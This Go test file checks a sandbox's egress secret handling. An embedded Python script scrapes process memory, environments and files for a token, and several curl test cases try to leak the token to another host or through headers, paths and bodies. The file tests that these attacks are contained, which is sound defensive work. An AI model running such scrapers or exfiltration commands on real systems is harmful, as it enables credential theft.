package egress

import (
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"palyra/conformance/world"
	"palyra/isolate/evidence"
)

const (
	npm    = "vault://global/npm"
	useNPM = "TOKEN=" + npm + " header:authorization packages.example"
)

// private is a bench with a secret in its vault, which the world wants below /private.
func private(t *testing.T) (b *bench, token string) {
	t.Helper()
	b = begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	b.w.Set("other.example", world.Addrs(world.Web))
	var random [16]byte
	rand.Read(random[:])
	token = "wrld_" + hex.EncodeToString(random[:])
	b.w.Want(token)
	t.Cleanup(func() { b.w.Want("") })
	if out, err := b.outside(palyra(), "vault", "init"); err != nil {
		t.Fatalf("vault init: %v\n%s", err, out)
	}
	b.store(token)
	return b, token
}

// store stores the secret, and keeps no file with it.
func (b *bench) store(token string) {
	b.t.Helper()
	file := b.write("value", token)
	defer os.Remove(file)
	if out, err := b.outside(palyra(), "vault", "set", "--file", file, npm); err != nil {
		b.t.Fatalf("vault set: %v\n%s", err, out)
	}
}

// has returns where below the home of b a text stands.
func (b *bench) has(text string) (files []string) {
	b.t.Helper()
	if err := filepath.WalkDir(b.home, func(path string, e fs.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(path)
		if bytes.Contains(content, []byte(text)) {
			files = append(files, path)
		}
		return err
	}); err != nil {
		b.t.Fatal(err)
	}
	return files
}

// search asks for a private page with the token that its first argument names, "env" or a file, and
// then looks for the token in the memory of all processes of its cell, their environments and
// arguments, and all files that it can read. It knows how the token begins, and nothing more of it.
const search = `
import glob, http.client, os, re, sys
where = sys.argv[1]
token = os.environ["TOKEN"] if where == "env" else open(where).read()
c = http.client.HTTPSConnection("packages.example")
c.request("GET", "/private/npm/fromworld", headers={"Authorization": "Bearer " + token})
r = c.getresponse()
page = r.read()
like = re.compile(rb"wrl[d]_[0-9a-f]{32}")
found, looked = set(), 0
def look(name, data):
    global looked
    looked += len(data)
    if like.search(data): found.add(name)
for p in glob.glob("/proc/[0-9]*"):
    for f in ("environ", "cmdline"):
        try: look(f, open(p + "/" + f, "rb").read())
        except OSError: pass
    try: maps, mem = open(p + "/maps").readlines(), open(p + "/mem", "rb", 0)
    except OSError: continue
    for line in maps:
        span, mode = line.split()[:2]
        begin, end = (int(x, 16) for x in span.split("-"))
        if "r" not in mode or "[v" in line: continue
        try:
            mem.seek(begin)
            look("memory", mem.read(end - begin))
        except (OSError, ValueError, OverflowError): pass
for top in ("/run", "/tmp", "/dev/shm", "/workspace", "/etc/ssl/palyra"):
    for dir, _, names in os.walk(top):
        for n in names:
            try: look("files", open(os.path.join(dir, n), "rb").read())
            except OSError: pass
print("status", r.status, "found in", " ".join(sorted(found)) or "nothing", "of", "much" if looked > 1 << 20 else looked)
`

// TestUse: a program uses a secret that it can't read. What finds the secret where a program has it
// finds nothing, and neither is it in what palyra keeps.
func TestUse(t *testing.T) {
	b, token := private(t)
	before := len(b.w.Requests())
	r := b.exec([]string{"packages.example"}, []string{"--egress-secret", useNPM}, "sh", "-c", `curl -sS -o /tmp/page -H "Authorization: Bearer $TOKEN" https://packages.example/private/npm/fromworld && echo got it`)
	if r.status != 0 || r.stdout != "got it\n" {
		t.Fatal(r)
	}
	arrived := b.w.Requests()[before:]
	if len(arrived) != 1 || arrived[0].Authorization != "Bearer "+token || arrived[0].Status != 200 {
		t.Errorf("arrived %+v", arrived)
	}
	if q := r.egress.Requests; len(q) != 1 || q[0].Host != "packages.example" || q[0].Path != "/private/npm/fromworld" || q[0].Status != 200 || !slices.Equal(q[0].Uses, []string{"TOKEN"}) {
		t.Errorf("the receipt lists %+v", q)
	}
	// What the host says of the secret is the placeholder for the program.
	r = b.exec(nil, []string{"--egress-secret", useNPM}, "sh", "-c", `curl -sS -H "Authorization: Bearer $TOKEN" https://packages.example/private/echo | grep -c -x "Bearer $TOKEN"`)
	if r.status != 0 || r.stdout != "1\n" {
		t.Errorf("the answer isn't the placeholder's: %s", r)
	}
	const trailer = `curl -sS --http2 -D - -H "Authorization: Bearer $TOKEN" https://packages.example/private/echo/trailers | tr -d "\r" | grep -i -c -x "x-echo: Bearer $TOKEN"`
	r = b.exec(nil, []string{"--egress-secret", useNPM}, "sh", "-c", trailer)
	if r.status != 0 || r.stdout != "1\n" {
		t.Errorf("the trailer isn't the placeholder's: %s", r)
	}
	for name, c := range map[string]struct {
		flags []string
		where string
		want  string
	}{
		"a file": {[]string{"--secret", "token=" + npm, "--egress", "packages.example"}, "/run/secrets/token", "status 200 found in files memory of much\n"},
		"a use":  {[]string{"--egress-secret", useNPM}, "env", "status 200 found in nothing of much\n"},
	} {
		r := b.exec(nil, c.flags, "python3", "-c", search, c.where)
		if r.status != 0 || r.stdout != c.want {
			t.Errorf("%s: %s", name, r)
		}
		if strings.Contains(r.stdout+r.stderr, token) {
			t.Errorf("%s: the output has it", name)
		}
	}
	if files := b.has(token); len(files) != 0 {
		t.Errorf("it's in %q", files)
	}
	if control := b.write("control", "x"+token); !slices.Equal(b.has(token), []string{control}) {
		t.Error("a search of palyra's files finds nothing where it is")
	}
	// Without the use the world gives nothing out.
	if r := b.exec([]string{"packages.example"}, nil, "curl", "-sS", "-f", "-H", "Authorization: Bearer wrong", "https://packages.example/private/npm/fromworld"); r.status != 22 {
		t.Errorf("without the secret: %s", r)
	}
}

// TestLeaks: a placeholder that is seen where it doesn't belong ends the call, and the secret has gone
// nowhere. With revoke the secret's version has expired.
func TestLeaks(t *testing.T) {
	b, token := private(t)
	for name, c := range map[string]struct {
		flags  []string
		script string
		leak   evidence.Leak
	}{
		"output":       {nil, `echo "it is $TOKEN"; sleep 60`, evidence.Leak{Where: evidence.LeakStdout}},
		"errors":       {nil, `echo "$TOKEN" | base64 >&2; sleep 60`, evidence.Leak{Where: evidence.LeakStderr}},
		"last word":    {nil, `printf %s "$TOKEN"`, evidence.Leak{Where: evidence.LeakStdout}},
		"other host":   {[]string{"--inspect", "other.example"}, `curl -sS -H "Authorization: Bearer $TOKEN" https://other.example/; sleep 60`, evidence.Leak{Host: "other.example", Port: 443, Where: evidence.LeakHeader}},
		"other header": {nil, `curl -sS -H "X-Other: $TOKEN" https://packages.example/; sleep 60`, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakHeader}},
		"path":         {nil, `curl -sS "https://packages.example/$TOKEN"; sleep 60`, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakPath}},
		"body":         {nil, `curl -sS -d "a=$TOKEN" https://packages.example/; sleep 60`, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakBody}},
	} {
		t.Run(name, func(t *testing.T) {
			b := b.in(t)
			before := len(b.w.Requests())
			r := b.exec(nil, append([]string{"--egress-secret", useNPM}, c.flags...), "sh", "-c", c.script)
			c.leak.Name = "TOKEN"
			if r.status != 125 || r.outcome != "failed" || !strings.Contains(r.stderr, "the placeholder of TOKEN was seen in ") || !slices.Contains(r.egress.Leaks, c.leak) {
				t.Fatal(r)
			}
			if strings.Contains(r.stdout+r.stderr, token) || strings.Contains(r.stdout, "TOKEN") && !strings.Contains(r.stdout, "[secret placeholder of TOKEN]") {
				t.Errorf("printed %q, %q", r.stdout, r.stderr)
			}
			for _, q := range b.w.Requests()[before:] {
				if strings.Contains(q.Authorization+q.Path+q.Query, token) {
					t.Errorf("the world got %+v", q)
				}
			}
		})
	}
	r := b.exec(nil, []string{"--egress-secret", useNPM + " revoke"}, "sh", "-c", `echo $TOKEN`)
	if r.status != 125 || !strings.Contains(r.stderr, "the placeholder of TOKEN was seen in ") {
		t.Error(r)
	}
	if r := b.exec(nil, []string{"--egress-secret", useNPM}, "true"); r.status != 125 || !strings.Contains(r.stderr, "has expired") {
		t.Errorf("the next call: %s", r)
	}
	b.store(token)
	if r := b.exec(nil, []string{"--egress-secret", useNPM}, "true"); r.status != 0 {
		t.Errorf("with another version: %s", r)
	}
}

// TestRequestsInspected: requests that rules match pass, others are refused, and the receipt lists both.
func TestRequestsInspected(t *testing.T) {
	b, _ := private(t)
	before := len(b.w.Requests())
	r := b.exec(nil, []string{"--inspect", "GET packages.example/a"}, "sh", "-c", `
		curl -sS -o /dev/null -w '%{http_code} ' https://packages.example/a/b
		curl -sS -o /dev/null -w '%{http_code} ' https://packages.example/ab
		curl -sS -o /dev/null -w '%{http_code} ' --path-as-is https://packages.example/a/../b
		curl -sS -o /dev/null -w '%{http_code} ' -X POST https://packages.example/a
		curl -sS -o /dev/null -w '%{http_code} ' https://other.example/a; true`)
	if !strings.HasPrefix(r.stdout, "200 403 403 403 ") && !strings.HasPrefix(r.stdout, "404 403 403 403 ") {
		t.Fatal(r)
	}
	if arrived := b.w.Requests()[before:]; len(arrived) != 1 || arrived[0].Path != "/a/b" {
		t.Errorf("arrived %+v", arrived)
	}
	if q := r.egress.Requests; len(q) != 4 || q[0].Refused || !q[1].Refused || !q[2].Refused || !q[3].Refused || q[3].Method != "POST" {
		t.Errorf("the receipt lists %+v", q)
	}
}
